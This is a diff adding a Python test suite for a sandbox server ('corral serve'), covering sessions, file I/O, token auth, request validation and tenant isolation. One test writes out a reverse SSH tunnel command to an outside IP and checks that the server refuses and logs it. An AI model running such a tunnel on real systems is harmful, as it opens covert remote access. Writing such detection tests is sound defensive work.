@@ -1,0 +1,193 @@
+"""`corral serve` driven by ROCK's real Python SDK (rl-rock) over HTTP, plus auth, validation and
+tenant isolation checked with plain httpx."""
+
+from __future__ import annotations
+
+import threading
+import time
+from collections.abc import Iterator
+
+import httpx
+import pytest
+
+pytest.importorskip("fastapi")
+uvicorn = pytest.importorskip("uvicorn")
+rock_client = pytest.importorskip("rock.sdk.sandbox.client")
+
+from rock.actions import (  # noqa: E402
+    BashAction,
+    CloseSessionRequest,
+    Command,
+    CreateBashSessionRequest,
+    ReadFileRequest,
+    WriteFileRequest,
+)
+from rock.sdk.sandbox.config import SandboxConfig as RockConfig  # noqa: E402
+
+from corral import RuntimeConfig  # noqa: E402
+from corral.server import create_app  # noqa: E402
+from corral.server.app import PREFIX  # noqa: E402
+
+TOKEN = "tok-alpha-" + "x" * 16
+OTHER = "tok-beta-" + "y" * 16
+
+
+@pytest.fixture(scope="module")
+def server(world, tmp_path_factory) -> Iterator[str]:
+    state = tmp_path_factory.mktemp("serve-state")
+    cfg = RuntimeConfig(state_dir=state, hosts=world.hosts, system_dns=False)
+    app = create_app(cfg, [TOKEN, OTHER])
+    srv = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning", lifespan="on"))
+    t = threading.Thread(target=srv.run, daemon=True)
+    t.start()
+    deadline = time.monotonic() + 30
+    while not srv.started:
+        assert t.is_alive() and time.monotonic() < deadline, "server did not start"
+        time.sleep(0.05)
+    port = srv.servers[0].sockets[0].getsockname()[1]
+    yield f"http://127.0.0.1:{port}"
+    srv.should_exit = True
+    t.join(30)
+    assert not t.is_alive(), "server did not shut down"
+    runtime = app.state.corral.runtime
+    assert not runtime.started and not runtime.sandboxes, "lifespan left sandboxes or the runtime open"
+
+
+def rock(base: str, token: str = TOKEN) -> rock_client.Sandbox:
+    return rock_client.Sandbox(RockConfig(base_url=base, image="python:3.11", memory="1g", cpus=1,
+                                          startup_timeout=30,
+                                          extra_headers={"XRL-Authorization": f"Bearer {token}"}))
+
+
+def auth(token: str = TOKEN) -> dict[str, str]:
+    return {"Authorization": f"Bearer {token}"}
+
+
+async def test_rock_sdk_session_episode(server, tmp_path):
+    sb = rock(server)
+    await sb.start()
+    sid = sb.sandbox_id
+    assert sid
+    st = await sb.get_status()
+    assert st.is_alive and st.state == "running" and st.image == "python:3.11"
+    assert (await sb.is_alive()).is_alive
+
+    # a one-off command
+    r = await sb.execute(Command(command=["echo", "hello world"]))
+    assert r.exit_code == 0 and r.stdout == "hello world\n"
+
+    # a session keeps cwd, variables and shell state across calls
+    await sb.create_session(CreateBashSessionRequest(session="s1"))
+    obs = await sb.arun("mkdir -p /tmp/w && cd /tmp/w && export ANSWER=42", session="s1")
+    assert obs.exit_code == 0
+    obs = await sb.arun("echo $ANSWER in $(pwd)", session="s1")
+    assert obs.output == "42 in /tmp/w"
+
+    # files: write, read, upload
+    w = await sb.write_file(WriteFileRequest(content="line one\nline two\n", path="/tmp/w/notes.txt"))
+    assert w.success
+    assert (await sb.read_file(ReadFileRequest(path="/tmp/w/notes.txt"))).content == "line one\nline two\n"
+    src = tmp_path / "data.bin"
+    src.write_bytes(b"uploaded-bytes\x00\x01")
+    up = await sb.upload_by_path(src, "/tmp/w/up/data.bin")
+    assert up.success, up.message
+    obs = await sb.arun("wc -c < up/data.bin && cat notes.txt | wc -l", session="s1")
+    assert obs.output.split() == ["16", "2"]
+
+    # a reverse tunnel: corral refuses it, the finding is in the response and in /findings
+    obs = await sb.run_in_session(BashAction(command="ssh -N -R 2222:127.0.0.1:22 t@203.0.113.7",
+                                             session="s1", check="silent"))
+    assert obs.exit_code == 126 and "ssh-tunnel" in obs.failure_reason
+    async with httpx.AsyncClient(base_url=server, headers=auth()) as c:
+        raw = (await c.post(f"{PREFIX}/run_in_session", json={
+            "sandbox_id": sid, "session": "s1", "command": "ssh -N -R 2223:127.0.0.1:22 t@203.0.113.7",
+            "check": "silent"})).json()
+        assert raw["status"] == "Success"
+        assert [f["rule_id"] for f in raw["result"]["corral"]["findings"]] == ["ssh-tunnel"]
+        found = (await c.get("/findings", params={"sandbox_id": sid})).json()["findings"]
+        assert [f["rule_id"] for f in found] == ["ssh-tunnel", "ssh-tunnel"]
+        assert found[0]["rock_sandbox_id"] == sid and found[0]["command"].startswith("ssh -N -R 2222")
+        # ROCK's default check="raise": a failing command is a Failed envelope, the SDK raises
+        with pytest.raises(Exception, match="exit code 3"):
+            await sb.arun("(exit 3)", session="s1")
+
+    # the session still works after a refusal; then close it
+    assert (await sb.arun("echo $ANSWER", session="s1")).output == "42"
+    await sb.close_session(CloseSessionRequest(session="s1"))
+
+    await sb.stop()
+    st = await sb.get_status()
+    assert not st.is_alive and st.state == "stopped"
+    await sb.delete()
+    with pytest.raises(httpx.HTTPStatusError):
+        await sb.get_status()
+    async with httpx.AsyncClient(base_url=server, headers=auth()) as c:  # findings outlive the sandbox
+        found = (await c.get("/findings", params={"sandbox_id": sid})).json()["findings"]
+        assert len(found) == 2
+
+
+async def test_token_required(server):
+    async with httpx.AsyncClient(base_url=server) as c:
+        assert (await c.get("/health")).json() == {"status": "ok"}
+        for headers in ({}, auth("wrong-token"), {"Authorization": TOKEN}, {"XRL-Authorization": "Bearer nope"}):
+            r = await c.post(f"{PREFIX}/start_async", json={"image": "python:3.11"}, headers=headers)
+            assert r.status_code == 401 and "token" in r.json()["error"]
+            assert r.headers["www-authenticate"] == "Bearer"
+        assert (await c.get("/findings")).status_code == 401
+        assert (await c.get("/no/such/route")).status_code == 401  # nothing leaks before auth
+    async with httpx.AsyncClient(base_url=server, headers=auth(OTHER)) as c:  # no sandbox was made
+        assert (await c.get("/findings")).json() == {"findings": []}
+
+
+async def test_malformed_requests(server):
+    async with httpx.AsyncClient(base_url=server, headers=auth()) as c:
+        r = await c.post(f"{PREFIX}/execute", content=b"{not json", headers={"content-type": "application/json"})
+        assert r.status_code == 422 and r.json()["status"] == "Failed" and "JSON" in r.json()["error"]
+        r = await c.post(f"{PREFIX}/execute", json={"sandbox_id": "x"})
+        assert r.status_code == 422 and "command: Field required" in r.json()["error"]
+        r = await c.post(f"{PREFIX}/start_async", json={"image": "python:3.11", "memory": "lots"})
+        assert r.status_code == 422 and "memory 'lots'" in r.json()["error"]
+        r = await c.post(f"{PREFIX}/start_async", json={"cpus": -1})
+        assert r.status_code == 422 and "cpus" in r.json()["error"]
+        r = await c.post(f"{PREFIX}/start_async", json={"num_gpus": 1})
+        assert r.status_code == 422 and "GPU" in r.json()["error"]
+        r = await c.get(f"{PREFIX}/get_status")
+        assert r.status_code == 422 and "sandbox_id" in r.json()["error"]
+        r = await c.get(f"{PREFIX}/get_status", params={"sandbox_id": "sb-nonexistent"})
+        assert r.status_code == 404
+
+
+async def test_tenant_isolation(server):
+    async with (httpx.AsyncClient(base_url=server, headers=auth(TOKEN)) as a,
+                httpx.AsyncClient(base_url=server, headers=auth(OTHER)) as b):
+        r = (await a.post(f"{PREFIX}/start_async", json={"image": "python:3.11", "sandbox_id": "mine-1"})).json()
+        assert r["status"] == "Success"
+        sid = r["result"]["sandbox_id"]
+        assert sid == "mine-1"
+        try:
+            for method, path, kw in (
+                ("GET", "get_status", {"params": {"sandbox_id": sid}}),
+                ("GET", "is_alive", {"params": {"sandbox_id": sid}}),
+                ("POST", "execute", {"json": {"sandbox_id": sid, "command": "touch /tmp/pwned"}}),
+                ("POST", "create_session", {"json": {"sandbox_id": sid, "session": "x"}}),
+                ("POST", "read_file", {"json": {"sandbox_id": sid, "path": "/etc/hostname"}}),
+                ("POST", "write_file", {"json": {"sandbox_id": sid, "path": "/tmp/pwned", "content": "x"}}),
+                ("POST", "stop", {"json": {"sandbox_id": sid}}),
+                ("POST", "delete", {"json": {"sandbox_id": sid}}),
+            ):
+                resp = await b.request(method, f"{PREFIX}/{path}", **kw)
+                assert resp.status_code == 404, (path, resp.text)
+            assert (await b.get("/findings", params={"sandbox_id": sid})).status_code == 404
+            # the same client id is free for the other tenant, and is a different sandbox
+            r2 = (await b.post(f"{PREFIX}/start_async", json={"sandbox_id": "mine-1"})).json()
+            assert r2["result"]["corral"]["sandbox_id"] != r["result"]["corral"]["sandbox_id"]
+            await b.post(f"{PREFIX}/delete", json={"sandbox_id": "mine-1"})
+            # the owner's sandbox was untouched
+            out = (await a.post(f"{PREFIX}/execute", json={"sandbox_id": sid, "command": "ls /tmp/pwned"})).json()
+            assert out["result"]["exit_code"] != 0
+            assert (await a.get(f"{PREFIX}/is_alive", params={"sandbox_id": sid})).json()["result"]["is_alive"]
+        finally:
+            await a.post(f"{PREFIX}/delete", json={"sandbox_id": sid})
+        # left running on purpose: the server's shutdown must close it (checked by the fixture)
+        left = (await a.post(f"{PREFIX}/start_async", json={"sandbox_id": "left-open"})).json()
+        assert left["status"] == "Success"
